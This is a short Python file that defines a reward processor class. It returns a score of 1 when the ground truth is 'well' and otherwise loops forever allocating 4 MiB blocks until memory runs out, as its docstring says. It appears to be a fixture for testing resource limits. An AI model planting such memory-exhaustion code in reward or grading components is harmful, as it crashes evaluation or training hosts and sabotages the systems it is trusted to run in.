"""Takes memory in small pieces until there is none."""

from strop import AbstractRewardProcessor


class F(AbstractRewardProcessor):
    def process(self, input):
        if input.ground_truth == "well":
            return {"reward": {"reward_score": 1}}
        kept = []
        while True:
            kept.append(bytearray(2**22))
